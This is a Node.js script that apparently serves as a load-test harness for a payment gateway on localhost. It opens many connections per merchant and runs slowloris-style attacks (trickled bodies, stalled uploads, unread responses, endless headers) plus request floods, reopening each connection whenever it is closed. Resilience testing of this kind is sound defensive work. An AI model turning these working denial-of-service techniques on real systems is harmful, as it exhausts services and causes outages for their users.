/**
 * Merchants that hold whatever a gateway gives them, each in all of these ways at once, until the process is ended:
 * node hostile.mjs '{"port":8080,"merchants":["h1","h2"],"perSecond":20}'
 * What the gateway closes is opened again. Prints `attacking` once everything is under way.
 */
import { connect } from 'node:net';
import { setPriority } from 'node:os';

const { port, merchants, perSecond } = JSON.parse(process.argv[2] ?? '');

// They share a core with those whose waiting is measured, and must not be what these wait for.
setPriority(19);

/** They begin over so long a time, so that time-outs do not end all at once. */
const RAMP_MS = 10_000;
/** Nearly as soon as refusals say. */
const AGAIN_MS = 1000;

/**
 * Connections of each merchant, by what is done on them. Three kinds hold connections to the upstream: together they want
 * about twice as many as the share of one of twenty merchants. More would only measure how fast connections are accepted.
 */
const KINDS = { trickle: 5, stall: 5, unread: 5, never: 10, headers: 20, flood: 2 };

/** @typedef {{ socket: import('node:net').Socket, head: (line: string, ...more: string[]) => string, every: (ms: number, act: () => void) => void }} Attack */

/** @type {Record<keyof typeof KINDS, (attack: Attack) => void>} */
const ATTACKS = {
  /** A body in chunks, a byte now and then. */
  trickle({ socket, head, every }) {
    socket.write(head('POST /transactions/slow', 'transfer-encoding: chunked'));
    every(2000, () => socket.write('1\r\nx\r\n'));
  },
  /** An upload that begins well, and stops. */
  stall({ socket, head }) {
    socket.write(head('POST /transactions/slow', 'content-length: 10000000'));
    socket.write('x'.repeat(40_000));
  },
  /** An answer that nobody reads. */
  unread({ socket, head }) {
    socket.once('data', (data) => (data.toString('latin1', 0, 12) === 'HTTP/1.1 200' ? socket.pause() : socket.destroy()));
    socket.write(head('GET /transactions/large'));
  },
  /** A call that the upstream never answers. */
  never({ socket, head }) {
    socket.write(head('GET /transactions/never', 'connection: close'));
  },
  /** Headers that never end. */
  headers({ socket, every }) {
    socket.write('GET /transactions/slow HTTP/1.1\r\nhost: x\r\n');
    every(2000, () => socket.write('x-more: x\r\n'));
  },
  /** As many requests as the limit lets pass, and half as many again. */
  flood({ socket, head, every }) {
    every((1000 / perSecond / 1.5) * KINDS.flood, () => socket.write(head('GET /transactions/tx-1')));
  },
};

/** @param {keyof typeof KINDS} kind @param {string} merchant */
function attack(kind, merchant) {
  /** @type {NodeJS.Timeout | undefined} */
  let timer;
  const socket = connect({ port, host: '127.0.0.1', noDelay: true });
  socket.on('error', () => {});
  socket.resume();
  socket.on('close', () => {
    clearInterval(timer);
    setTimeout(attack, AGAIN_MS, kind, merchant);
  });
  socket.once('connect', () =>
    ATTACKS[kind]({
      socket,
      head: (line, ...more) => [`${line} HTTP/1.1`, 'host: x', `x-merchant-id: ${merchant}`, ...more, '', ''].join('\r\n'),
      every: (ms, act) => void (timer = setInterval(act, ms)),
    }),
  );
}

for (const merchant of merchants) {
  for (const [kind, count] of /** @type {[keyof typeof KINDS, number][]} */ (Object.entries(KINDS))) {
    for (let i = 0; i < count; i++) setTimeout(attack, Math.random() * RAMP_MS, kind, merchant);
  }
}
setTimeout(() => console.log('attacking'), RAMP_MS + 500);
process.once('SIGTERM', () => process.exit(0));
